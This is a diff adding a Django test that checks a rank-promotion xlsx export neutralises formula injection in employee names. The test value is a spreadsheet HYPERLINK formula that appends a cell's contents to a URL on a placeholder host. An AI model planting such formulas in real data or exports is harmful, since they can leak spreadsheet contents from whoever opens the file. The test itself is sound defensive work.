@@ -266,3 +266,16 @@ def test_api_jumlah_query_tetap_fungsional(org):
     # The 7 of test_api_jumlah_query_tetap plus 8 the angka kredit ledger of the fungsional
     # rows, in one query.
     assert hitung() == satu == 8
+
+
+def test_xlsx_kenaikan_pangkat_menetralkan_rumus(client, karier_org):
+    """An imported name that is a formula reaches the xlsx as text (issue 16, item 5)."""
+    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
+    Pegawai.objects.filter(pk=karier_org.siti.pk).update(nama=rumus)
+    client.force_login(karier_org.operator_diskes)
+    resp = client.get(
+        reverse("karier:kenaikan-pangkat"), {"periode": PERIODE, "semua": "on", "format": "xlsx"}
+    )
+    lembar = load_workbook(BytesIO(resp.content)).active
+    sel = [c for r in lembar.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
+    assert [(c.data_type, c.value) for c in sel] == [("s", "'" + rumus)]
